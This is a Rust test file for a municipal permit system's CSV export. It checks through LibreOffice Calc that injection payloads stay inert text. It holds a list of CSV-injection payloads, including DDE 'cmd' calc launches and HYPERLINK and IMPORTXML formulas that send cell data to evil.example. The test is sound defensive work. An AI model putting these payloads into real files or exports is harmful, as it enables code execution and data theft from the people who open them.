//! Hardening F3, proven by a real spreadsheet: the staff CSV export, opened by
//! LibreOffice Calc (headless `--convert-to`, default CSV import, which evaluates
//! formulas), shows every cell as written; no payload turns into a formula.
//!
//! Needs `soffice` (Debian `libreoffice-calc-nogui`; `infra/test.sh` installs it).
//! Without it the test says so and passes, unless `LOKET_TEST_LIBREOFFICE=required`
//! (the test command sets that), when it fails.

use std::path::Path;
use std::process::Command;

use chrono::{DateTime, FixedOffset, Utc};
use loket::app::export::CsvDialect;
use loket::app::export::{CSV_COLUMNS, CSV_COLUMNS_NL, permits_csv};
use loket::domain::formats::{Email, KvkNumber, Phone, Reference, Register};
use loket::domain::leges::Tariffs;
use loket::domain::municipality::Municipality;
use loket::domain::permit::{self, Application, Event, Kern, Organiser};
use loket::domain::risk::Alcohol;

fn at(text: &str) -> DateTime<Utc> {
    DateTime::<FixedOffset>::parse_from_rfc3339(text)
        .unwrap()
        .with_timezone(&Utc)
}

/// Published CSV-injection payloads (OWASP "CSV Injection"; payloads from the
/// PayloadsAllTheThings list), as organiser and event names.
const PAYLOADS: &[&str] = &[
    "=1+1",
    "=cmd|' /C calc'!A0",
    "Zomerfest;=cmd|' /C calc'!A0;x",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Klik\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
    "\u{0}=1+1",
    "\u{200b}=1+1",
    "\u{feff}=1+1",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
];

fn application(n: usize, name: &str) -> Application {
    let event = Event {
        name: name.to_string(),
        description: "CSV-test".into(),
        kern: Kern::new("dronten"),
        address: name.to_string(),
        starts_at: at("2017-08-18T12:00:00+02:00"),
        ends_at: at("2017-08-18T20:00:00+02:00"),
        expected_visitors: 80,
        amplified_music: false,
        max_sound_dba: None,
        road_closure: false,
        alcohol: Alcohol::None,
        largest_structure_m2: 0,
        on_water: false,
        fireworks: false,
        commercial: false,
        non_profit: true,
    };
    let now = at("2017-03-01T10:00:00+01:00");
    let quote = permit::quote(&event, now, &Tariffs::built_in()).unwrap();
    let organiser = Organiser {
        name: name.to_string(),
        organisation: Some(name.to_string()),
        kvk_number: None,
        email: Email::parse("info@zomerfest.nl").unwrap(),
        phone: Phone::parse("0321 123456").unwrap(),
    };
    Application::submit(
        format!("id-{n}"),
        Reference::new(Register::Permits, 2017, n as u64 + 1),
        "hash".into(),
        organiser,
        event,
        quote,
        now,
    )
}

/// `file` as LibreOffice Calc reads it (separator `separator`), written back as
/// comma-separated UTF-8 with every text cell quoted.
fn through_calc(file: &Path, separator: u8) -> Vec<Vec<String>> {
    through_calc_in(file, separator, "")
}

/// The same, read as a spreadsheet set to `language` (an LCID: 1043 is Dutch) reads
/// it; empty for the default.
fn through_calc_in(file: &Path, separator: u8, language: &str) -> Vec<Vec<String>> {
    let out = file.parent().unwrap().join("out");
    let status = Command::new("soffice")
        .args([
            "--headless",
            &format!(
                "-env:UserInstallation=file://{}",
                out.join("profile").display()
            ),
            &format!("--infilter=CSV:{separator},34,76,1,,{language}"),
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1",
            "--outdir",
        ])
        .arg(&out)
        .arg(file)
        .status()
        .expect("soffice runs");
    assert!(status.success(), "soffice --convert-to failed");
    let converted = std::fs::read(out.join(file.file_name().unwrap())).unwrap();
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(converted.as_slice())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

fn cells(bytes: &[u8], separator: u8) -> Vec<Vec<String>> {
    let bytes = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap_or(bytes);
    csv::ReaderBuilder::new()
        .has_headers(false)
        .delimiter(separator)
        .from_reader(bytes)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

fn soffice_present() -> bool {
    let present = Command::new("soffice").arg("--version").output().is_ok();
    if !present {
        if std::env::var("LOKET_TEST_LIBREOFFICE").as_deref() == Ok("required") {
            panic!("LOKET_TEST_LIBREOFFICE=required, but soffice is not installed");
        }
        eprintln!("SKIPPED: soffice (libreoffice-calc-nogui) is not installed");
    }
    present
}

#[test]
fn libreoffice_evaluates_no_formula_in_the_export() {
    if !soffice_present() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();

    // The control: this import does evaluate a formula written as is.
    let control = dir.path().join("control.csv");
    std::fs::write(&control, "\"tekst\",\"=1+1\"\n").unwrap();
    assert_eq!(
        through_calc(&control, b','),
        [["tekst", "2"]],
        "the import evaluates formulas, so the test below can fail"
    );

    let apps: Vec<Application> = PAYLOADS
        .iter()
        .enumerate()
        .map(|(n, p)| application(n, p))
        .collect();
    for (dialect, separator, name) in [
        (CsvDialect::Rfc4180, b',', "rfc4180.csv"),
        (CsvDialect::ExcelNl, b';', "excel_nl.csv"),
    ] {
        let bytes = permits_csv(&apps, dialect, &Municipality::dronten()).unwrap();
        let file = dir.path().join(name);
        std::fs::write(&file, &bytes).unwrap();
        let written = cells(&bytes, separator);
        let shown = through_calc(&file, separator);
        let headers = match dialect {
            CsvDialect::Rfc4180 => CSV_COLUMNS,
            CsvDialect::ExcelNl => CSV_COLUMNS_NL,
        };
        assert_eq!(written[0], headers, "{name}: the header row");
        let name_column = CSV_COLUMNS
            .iter()
            .position(|c| *c == "organiser_name")
            .unwrap();
        for (row, payload) in shown.iter().skip(1).zip(PAYLOADS) {
            println!("{name}: {payload:?} is shown as {:?}", row[name_column]);
        }
        assert_eq!(
            shown.len(),
            written.len(),
            "{name}: one row per application"
        );
        for (r, (shown_row, written_row)) in shown.iter().zip(&written).enumerate() {
            assert_eq!(
                shown_row.len(),
                written_row.len(),
                "{name} row {r}: no cell split"
            );
            for (c, (s, w)) in shown_row.iter().zip(written_row).enumerate() {
                // Numbers and booleans may be shown reformatted (`FALSE`); text must be
                // shown as written.
                if w.parse::<f64>().is_ok() {
                    continue;
                }
                if w.parse::<bool>().is_ok() {
                    assert!(s.eq_ignore_ascii_case(w), "{name} row {r}: {s} for {w}");
                    continue;
                }
                // The Dutch export's amounts (`1463,00`) and local moments
                // (`18-08-2017 12:00`) are numbers and dates to a spreadsheet: the
                // Dutch reading below checks them.
                if dialect == CsvDialect::ExcelNl && dutch_number_or_moment(w) {
                    continue;
                }
                assert_eq!(s, w, "{name} row {r} column {}", CSV_COLUMNS[c]);
            }
        }
    }
}

/// `1463,00`, `18-08-2017` or `18-08-2017 12:00`.
fn dutch_number_or_moment(cell: &str) -> bool {
    let digits = |part: &str, n: usize| part.len() == n && part.bytes().all(|b| b.is_ascii_digit());
    let number = cell.split_once(',').is_some_and(|(euros, cents)| {
        !euros.is_empty() && digits(euros, euros.len()) && digits(cents, 2)
    });
    let (date, time) = cell.split_once(' ').unwrap_or((cell, "00:00"));
    let date_parts: Vec<&str> = date.split('-').collect();
    let moment = matches!(date_parts.as_slice(), [d, m, y] if digits(d, 2) && digits(m, 2) && digits(y, 4))
        && time
            .split_once(':')
            .is_some_and(|(h, m)| digits(h, 2) && digits(m, 2));
    number || moment
}

/// Dutch Excel reads the Dutch export as a person expects: the amounts as numbers of
/// euros (not 146300, and not text), the dates as dates, the words in Dutch.
#[test]
fn a_dutch_spreadsheet_reads_euros_as_numbers_and_dates_as_dates() {
    if !soffice_present() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let mut zomerfestival = application(0, "Zomerfestival");
    zomerfestival.organiser.kvk_number = Some(KvkNumber::parse("01234567").unwrap());
    let apps = vec![zomerfestival];
    let bytes = permits_csv(&apps, CsvDialect::ExcelNl, &Municipality::dronten()).unwrap();
    let file = dir.path().join("excel_nl.csv");
    std::fs::write(&file, &bytes).unwrap();
    let written = cells(&bytes, b';');
    // Read as Dutch (1043), then summed and formatted by Calc itself: a cell that
    // stayed text would not add up.
    let shown = through_calc_in(&file, b';', "1043");
    let column = |name: &str| CSV_COLUMNS_NL.iter().position(|c| *c == name).unwrap();
    let leges = written[1][column("Leges (EUR)")].clone();
    println!(
        "written {leges:?}, shown {:?}",
        shown[1][column("Leges (EUR)")]
    );
    let shown_leges: f64 = shown[1][column("Leges (EUR)")]
        .replace('.', "")
        .replace(',', ".")
        .parse()
        .unwrap_or_else(|_| panic!("Leges read as a number: {:?}", shown[1]));
    let written_leges: f64 = leges.replace(',', ".").parse().unwrap();
    assert_eq!(shown_leges, written_leges, "euros, not cents");
    assert!(
        written_leges < 10_000.0,
        "{written_leges}: euros, not cents"
    );
    println!("shown row: {:?}", shown[1]);
    // A date, read day first: Calc writes it back in its own (US) format.
    assert_eq!(shown[1][column("Begint")], "08/18/17 12:00 PM");
    assert_eq!(shown[1][column("Kern")], "Dronten");
    assert_eq!(shown[1][column("Te laat aangevraagd")], "nee");
    // A KvK number is a name, not a quantity: its leading zero stays.
    assert_eq!(shown[1][column("KvK-nummer")], "01234567");
}
